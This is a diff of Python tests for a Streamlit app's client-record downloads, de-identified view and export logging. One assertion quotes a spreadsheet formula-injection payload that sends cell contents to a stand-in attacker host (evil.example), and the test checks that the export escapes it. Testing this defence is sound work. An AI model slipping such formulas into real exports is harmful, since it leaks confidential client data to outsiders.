@@ -1,8 +1,8 @@
 """Downloads and the de-identified view, run headless with AppTest on the fixture practice of conftest.py (with one
 client note holding a spreadsheet formula).
 
-What each download offers is caught where Streamlit stores it (MediaFileManager): the bytes of a table's button,
-and the function a Data page button runs when pressed (called here as the browser's click would).
+What each download offers is caught where Streamlit stores it (MediaFileManager): the function a button runs when
+pressed (a table's, or a Data page export), called here as the browser's click would.
 """
 
 from __future__ import annotations
@@ -111,13 +111,12 @@ def test_the_client_pages_tables_download_formula_safe_csv_and_each_download_is_
     on_client(app)
     keys = [button.key for button in app.download_button]
     assert keys == ["client_current_download", "client_overdue_download", "client_submissions_download"]
-    data = offered["submissions-C1.csv"]
+    assert log_rows(noted_store) == []  # offering is not exporting: the file is made when pressed
+    data = offered["submissions-C1.csv"]()  # what the browser's click runs (in its own thread)
     assert data.startswith(b"\xef\xbb\xbf")
     text = data.decode("utf-8-sig")
     assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"' in text  # an apostrophe, quotes doubled
     assert "Thought record" in text  # the identified view: as typed
-    assert log_rows(noted_store) == []  # offering is not exporting
-    no_exception(app.download_button(key="client_submissions_download").click().run())
     (row,) = log_rows(noted_store)
     assert (row["tier"], row["format"], row["what"], row["exported_by"]) == (
         "identified", "csv", "submissions of one client", signin.LOCAL_USER)  # local mode: the machine's admin
@@ -224,10 +223,10 @@ def test_downloads_in_the_deidentified_view_are_deidentified_and_logged_so(
     secret = deidentify.practice_secret(open_store(noted_store))
     on_client(app, "C1")  # the picker's values stay on the server; it shows the pseudonym
     name = f"submissions-{deidentify.pseudonym(secret, 'client', 'C1')}.csv"
-    data = offered[name].decode("utf-8-sig")
+    assert log_rows(noted_store) == []
+    data = offered[name]().decode("utf-8-sig")
     for typed in TYPED:
         assert typed not in data
-    no_exception(app.download_button(key="client_submissions_download").click().run())
     assert [r["tier"] for r in log_rows(noted_store)] == ["deidentified"]
     on_page(app, "data")
     assert [button.label for button in app.download_button] == [
